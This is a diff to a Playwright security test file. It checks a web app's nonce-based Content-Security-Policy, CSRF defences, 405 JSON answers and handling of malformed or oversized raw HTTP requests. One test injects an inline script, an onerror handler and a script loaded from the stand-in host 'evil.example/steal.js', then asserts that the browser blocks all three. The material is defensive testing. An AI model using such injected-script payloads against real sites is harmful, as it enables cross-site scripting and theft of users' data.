@@ -1,11 +1,14 @@
 /**
  * The attacks of the security review, replayed in a real browser against the production build:
- * open redirects through the return-to parameter, a copied session cookie after sign-out, and
- * account pre-hijacking through a Google sign-in.
+ * open redirects through the return-to parameter, a copied session cookie after sign-out,
+ * account pre-hijacking through a Google sign-in, CSRF, injected scripts against the pages'
+ * nonce-based CSP, and the JSON answers to wrong methods and requests Node's parser refuses.
  */
 import { randomBytes } from "node:crypto";
 import { createServer } from "node:http";
-import { expect, test, type BrowserContext, type Page } from "@playwright/test";
+import { connect } from "node:net";
+import { expect, test, type BrowserContext, type Page, type Response } from "@playwright/test";
+import { fakeChatKit } from "./chat-support";
 import { E2E_PORT } from "./support/e2e-env";
 
 const unique = (prefix: string) => `${prefix}-${randomBytes(4).toString("hex")}@example.com`;
@@ -185,3 +188,143 @@ test("CSRF: a sibling-origin page's form POST and no-cors fetch change nothing f
   }
   expect(await threads()).toBe(before);
 });
+
+/** The one Content-Security-Policy header of a page answer, and its script nonce. */
+async function pagePolicy(response: Response | null): Promise<{ policy: string; nonce: string }> {
+  const policies = ((await response?.headersArray()) ?? []).filter(
+    (h) => h.name.toLowerCase() === "content-security-policy",
+  );
+  expect(policies, "exactly one CSP header").toHaveLength(1);
+  const policy = policies[0]?.value ?? "";
+  const scripts = policy.split(";").find((d) => d.trim().startsWith("script-src")) ?? "";
+  expect(scripts).toContain("'strict-dynamic'");
+  expect(scripts).not.toContain("'unsafe-inline'");
+  const nonce = /'nonce-([A-Za-z0-9+/]+=*)'/.exec(scripts)?.[1];
+  expect(nonce, "a nonce in script-src").toBeTruthy();
+  return { policy, nonce: nonce ?? "" };
+}
+
+/** Every script element of the served HTML but JSON data blocks (which never run), with its attributes. */
+function scriptTags(html: string): string[] {
+  return [...html.matchAll(/<script\b([^>]*)>/gi)]
+    .map((m) => m[1] ?? "")
+    .filter((attrs) => !/type="application\/(ld\+)?json"/i.test(attrs));
+}
+
+/** Collects CSP violations: the browser's console reports and the page's securitypolicyviolation events. */
+async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
+  const reports: string[] = [];
+  page.on("console", (msg) => {
+    if (msg.text().includes("Content Security Policy")) reports.push(msg.text());
+  });
+  await page.addInitScript(() => {
+    const seen: string[] = [];
+    (window as unknown as { __csp: string[] }).__csp = seen;
+    document.addEventListener("securitypolicyviolation", (e) =>
+      seen.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`),
+    );
+  });
+  return async () => [...reports, ...(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp))];
+}
+
+test("every page carries a fresh CSP nonce on all its scripts, runs them, and reports no violation", async ({
+  page,
+}) => {
+  const violations = await watchViolations(page);
+  await fakeChatKit(page); // the ChatKit CDN script, added by our bundle: 'strict-dynamic' must let it run
+  const nonces = new Set<string>();
+  const visit = async (path: string) => {
+    const response = await page.goto(path);
+    expect(response?.status(), path).toBe(200);
+    const { nonce } = await pagePolicy(response);
+    nonces.add(nonce);
+    const tags = scriptTags(await response!.text());
+    expect(tags.length, path).toBeGreaterThan(3);
+    expect(
+      tags.filter((attrs) => !attrs.includes(`nonce="${nonce}"`)),
+      `${path}: scripts without the nonce`,
+    ).toEqual([]);
+    // The pre-paint theme script ran (inline, nonce'd), and React hydrated the page.
+    await expect(page.locator("html")).toHaveAttribute("data-theme", /^(light|dark)$/);
+    await page.waitForFunction(() => Object.keys(document).some((key) => key.startsWith("_reactListening")));
+    if (path === "/chat") await expect(page.getByTestId("chat-panel")).toHaveAttribute("data-phase", "ready");
+    expect(await violations(), path).toEqual([]);
+  };
+  for (const path of ["/", "/login", "/signup", "/forgot-password", "/docs"]) await visit(path);
+  await signUpAndSignIn(page, unique("csp"));
+  for (const path of ["/chat", "/dashboard", "/settings"]) await visit(path);
+  expect(nonces.size).toBe(8);
+});
+
+test("an injected script without the nonce does not run, and the browser reports it", async ({ page }) => {
+  const violations = await watchViolations(page);
+  const hits = await watchEvilHost(page.context());
+  // As if stored markup reached the page: an inline script, an inline handler and a script from
+  // another host, all parser-inserted without the nonce.
+  await page.route("**/login", async (route) => {
+    const response = await route.fetch();
+    const injected =
+      `<script>window.__injected = "inline"</script>` +
+      `<img src="/nope.png" onerror="window.__injected = 'handler'">` +
+      `<script src="https://evil.example/steal.js"></script>`;
+    await route.fulfill({ response, body: (await response.text()).replace("</body>", `${injected}</body>`) });
+  });
+  await page.goto("/login");
+  await expect(page.getByRole("button", { name: "Sign in" })).toBeVisible();
+  await expect
+    .poll(async () => (await violations()).filter((v) => v.includes("script-src")).length)
+    .toBeGreaterThanOrEqual(3);
+  expect(await page.evaluate(() => (window as unknown as { __injected?: string }).__injected)).toBeUndefined();
+  expect(hits).toEqual([]);
+});
+
+test("a method an API path does not answer gets a JSON 405 naming the allowed ones", async ({ request }) => {
+  for (const [method, path, allow] of [
+    ["GET", "/chatkit", "OPTIONS, POST"],
+    ["DELETE", "/facts", "GET, HEAD, OPTIONS"],
+    ["PUT", "/api/auth/session", "GET, HEAD, OPTIONS, POST"],
+    ["PATCH", "/facts/00000000-0000-0000-0000-000000000000/save", "OPTIONS, POST"],
+  ] as const) {
+    const response = await request.fetch(path, { method });
+    expect(response.status(), `${method} ${path}`).toBe(405);
+    expect(response.headers()["allow"]).toBe(allow);
+    expect(await response.json()).toMatchObject({
+      code: "method_not_allowed",
+      detail: expect.stringContaining(method),
+    });
+  }
+  expect((await request.get("/health")).status()).toBe(200);
+});
+
+/** Raw bytes to the app server; everything it answers until it closes the connection. */
+function rawExchange(bytes: string): Promise<{ status: number; head: string; body: string }> {
+  return new Promise((resolve, reject) => {
+    const socket = connect(E2E_PORT, "127.0.0.1", () => socket.end(bytes));
+    let text = "";
+    socket.setEncoding("utf8");
+    socket.on("data", (chunk: string) => (text += chunk));
+    socket.on("error", reject);
+    socket.on("close", () => {
+      const [head = "", body = ""] = text.split("\r\n\r\n");
+      resolve({ status: Number(head.split(" ")[1]), head: head.toLowerCase(), body });
+    });
+  });
+}
+
+test(
+  "requests Node's parser refuses get JSON answers: 431 for oversized headers, 400 for malformed ones",
+  { tag: "@fakes" }, // raw TCP to the local server
+  async ({ request }) => {
+    const big = await rawExchange(`GET /health HTTP/1.1\r\nHost: x\r\nCookie: ${"a".repeat(20_000)}\r\n\r\n`);
+    expect(big.status).toBe(431);
+    expect(big.head).toContain("content-type: application/json");
+    expect(big.head).toContain("connection: close");
+    expect(JSON.parse(big.body)).toMatchObject({ code: "request_headers_too_large" });
+    for (const bytes of ["GET /health HTTP/1.1\r\nBroken header\r\n\r\n", "BREW /health HTTP/1.1\r\nHost: x\r\n\r\n"]) {
+      const bad = await rawExchange(bytes);
+      expect(bad.status, bytes).toBe(400);
+      expect(JSON.parse(bad.body)).toMatchObject({ code: "malformed_request" });
+    }
+    expect((await request.get("/health")).status()).toBe(200);
+  },
+);
